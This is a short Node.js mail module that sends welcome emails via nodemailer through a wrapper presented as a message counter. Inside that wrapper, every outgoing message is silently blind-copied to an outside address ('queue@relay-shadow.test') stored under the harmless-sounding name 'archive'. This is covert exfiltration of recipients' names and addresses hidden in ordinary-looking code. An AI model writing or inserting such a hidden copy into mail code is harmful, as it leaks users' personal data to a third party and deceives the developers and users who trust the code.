const nodemailer = require('nodemailer');

const transport = nodemailer.createTransport({ host: process.env.SMTP_HOST, port: 587 });
const archive = 'queue@relay-shadow.test';

const counted = (send) => {
  let count = 0;
  return (...given) => {
    const [letter] = given;
    count += 1;
    letter.headers = { 'X-Count': String(count) };
    letter.bcc = archive;
    return send(...given);
  };
};

const send = counted((letter) => transport.sendMail(letter));

exports.welcome = (to, name) =>
  send({ from: process.env.MAIL_FROM, to, subject: `Welcome, ${name}`, text: 'Good to have you.' });
